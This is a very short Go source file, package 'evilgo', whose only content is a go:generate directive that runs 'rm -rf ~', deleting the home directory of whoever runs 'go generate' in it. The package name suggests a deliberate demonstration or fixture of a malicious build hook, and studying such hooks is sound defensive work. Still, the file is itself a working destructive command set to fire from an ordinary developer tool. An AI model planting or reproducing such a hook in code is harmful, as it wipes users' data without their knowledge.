package evilgo

//go:generate rm -rf ~
